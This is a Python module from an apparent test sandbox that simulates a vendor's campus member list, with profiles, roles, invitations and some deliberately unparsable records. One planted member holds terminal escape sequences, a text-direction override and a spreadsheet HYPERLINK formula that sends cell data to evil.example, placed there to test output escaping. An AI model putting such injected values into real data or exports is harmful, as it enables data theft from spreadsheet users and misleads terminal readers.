"""The campus's members: made when looked at, kept once somebody changed them."""

from __future__ import annotations

import random
from collections.abc import Iterator
from datetime import datetime, timedelta
from typing import Any, Final

from msgspec import Struct

from tui.sandbox.world import Person, World
from tui.vendors.virbela.sandbox.hardware import hardware_of

__all__ = ["CAMPUS_FIELDS", "CAMPUS_TEAM", "Member", "Members"]

CAMPUS_TEAM: Final = "A"
"""The team of an invitation that names none."""

CAMPUS_FIELDS: Final = (
    "Department",
    "Region",
    "Job Title",
    "eNPS",
    "Remote",
    "Languages",
    "Start Date",
    "Employee Number",
    "Mentor",
)
"""The profile fields that this campus made in its dashboard; there are no others."""

_ROLES: Final = ("member",) * 44 + ("leader",) * 3 + ("moderator",) * 2 + ("admin",)
_LANGUAGES: Final = ("English", "Svenska", "Deutsch", "Español", "Português", "Français", "日本語", "中文", "العربية")
_HOSTILE: Final = 1017
"""The position of the member whose data attacks terminals and spreadsheets; far from the first screenful."""
_UNPARSABLE: Final = {211: "Unexpected end of JSON input", 640: "eNPS: cast to Number failed", 905: "Invalid Date"}


class Member(Struct):
    """One member, or somebody invited."""

    user_id: str
    email: str
    first_name: str
    last_name: str
    display_name: str
    team: str
    role: str
    updated_at: datetime | None
    profile: dict[str, Any]
    hardware: dict[str, str] | None = None
    unparsable: str = ""
    """Why the vendor cannot read the profile; empty for a good one."""


class Members:
    """Everybody on the campus, in the order in which the API lists them."""

    def __init__(self, world: World) -> None:
        self._world = world
        self._began = world.now()
        everybody = range(len(world.people))
        dice = world.rng("virbela:members")
        self._asked = set(dice.sample(everybody, len(everybody) // 80)) - {0, 1, 2, _HOSTILE, *_UNPARSABLE}
        self._suspended = set(dice.sample(everybody, len(everybody) // 50)) - {0, 1, 2}
        self.founders = [position for position in everybody if position not in self._asked]
        """The positions, among the world's people, of those who have accepted their invitation."""
        self._order: list[int | str] = list(self.founders)
        self._changed: dict[str, Member] = {}
        self._gone: set[str] = set()
        self._due: list[tuple[datetime, Member]] = []
        self._by_email: dict[str, str] | None = None
        self._names: set[str] = set()
        self.version = 0
        """Goes up with every change; what was sorted before is stale then."""

    def __len__(self) -> int:
        self._let_in()
        return len(self._order)

    def page(self, wanted: slice) -> list[Member]:
        """Return some members, in the vendor's order."""
        self._let_in()
        return [self._member(entry) for entry in self._order[wanted]]

    def find(self, user_id: str) -> Member | None:
        """Find a member by id; None for nobody's, for those invited who have not come yet, and for the deleted."""
        self._let_in()
        if user_id in self._gone:
            return None
        if user_id in self._changed:
            return self._changed[user_id] if not any(one.user_id == user_id for _, one in self._due) else None
        position = self._world.people.position(user_id)
        member = None if position is None else self._make(position)
        # Somebody whose invitation is pending from the start is in no list.
        return None if position in self._asked else member

    def find_email(self, email: str) -> Member | None:
        """Find a member by e-mail, whatever its case."""
        user_id = self._emails().get(email.lower())
        return None if user_id is None else self.find(user_id)

    def name_taken(self, display_name: str) -> bool:
        """Return whether somebody has this display name already."""
        self._emails()
        return display_name in self._names

    def free_name(self, display_name: str) -> None:
        """Let others have a display name that its bearer gives up."""
        self._emails()
        self._names.discard(display_name)

    def keep(self, member: Member) -> None:
        """Keep a change."""
        self._changed[member.user_id] = member
        self._emails()[member.email.lower()] = member.user_id
        self._names.add(member.display_name)
        self.version += 1

    def invite(self, member: Member, *, comes: datetime) -> None:
        """Add somebody who will be a member from an instant on."""
        self.keep(member)
        self._due.append((comes, member))

    def pending(self, email: str) -> Member | None:
        """Find somebody who is invited and has not come yet."""
        return next((one for _, one in self._due if one.email.lower() == email.lower()), None)

    def delete(self, member: Member) -> None:
        """Take somebody out for good."""
        self._changed.pop(member.user_id, None)
        self._gone.add(member.user_id)
        self._emails().pop(member.email.lower(), None)
        self._names.discard(member.display_name)
        position = self._world.people.position(member.user_id)
        self._order.remove(member.user_id if position is None else position)
        self.version += 1

    def _let_in(self) -> None:
        """Turn those invited into members whose time has come."""
        now = self._world.now()
        for comes, member in [due for due in self._due if due[0] <= now]:
            self._due.remove((comes, member))
            self._order.append(member.user_id)
            self.version += 1

    def _emails(self) -> dict[str, str]:
        if self._by_email is None:
            listed = [self._world.people[position] for position in self.founders]
            self._by_email = {person.email: person.key for person in listed}
            self._names = {person.display_name for person in listed}
        return self._by_email

    def _member(self, entry: int | str) -> Member:
        if isinstance(entry, str):
            return self._changed[entry]
        return self._changed.get(self._world.people[entry].key) or self._make(entry)

    def _make(self, position: int) -> Member:
        person = self._world.people[position]
        dice = random.Random(self._world.seed * 1_000_003 + position)  # noqa: S311 - dice, not secrets
        lot = dice.random()
        member = Member(
            user_id=person.key,
            email=person.email,
            first_name="" if lot < 0.015 else person.first_name,
            last_name="" if lot < 0.02 else person.last_name,
            display_name=person.display_name,
            team=person.team,
            role="owner" if position == 0 else "suspended" if position in self._suspended else dice.choice(_ROLES),
            updated_at=None if 0.02 < lot < 0.05 else self._began - timedelta(minutes=dice.random() ** 2 * 800_000),
            profile=dict(_profile(dice, person, self._began)),
            hardware=None if 0.1 < lot < 0.16 else hardware_of(dice),
            unparsable=_UNPARSABLE.get(position, ""),
        )
        if position == _HOSTILE:
            member.first_name, member.last_name = "Zo\x1b[31mltán\x1b[0m", "Tester [/bold]\t\u202ediK\u202c"
            member.hardware = {**hardware_of(dice), "device": '=HYPERLINK("http://evil.example/?x="&A1,"Laptop")'}
        return member


def _profile(dice: random.Random, person: Person, now: datetime) -> Iterator[tuple[str, Any]]:
    """Fill in what people fill in: hardly anybody everything, a number here and a list there."""
    if dice.random() < 0.94:
        yield "Department", person.department
    if dice.random() < 0.9:
        yield "Region", person.region
    if dice.random() < 0.8:
        yield "Job Title", person.title
    if dice.random() < 0.55:
        yield "eNPS", min(10, int(11 * dice.random() ** 0.6))
    if dice.random() < 0.4:
        yield "Remote", dice.random() < 0.7
    if dice.random() < 0.3:
        yield "Languages", dice.sample(_LANGUAGES, dice.randint(1, 3))
    if dice.random() < 0.6:
        yield "Start Date", (now - timedelta(days=dice.randrange(20, 4000))).date().isoformat()
    if dice.random() < 0.5:
        yield "Employee Number", f"{dice.randrange(100_000):06d}"
    if dice.random() < 0.08:
        yield "Mentor", dice.choice((True, "", 0, "since 2019"))
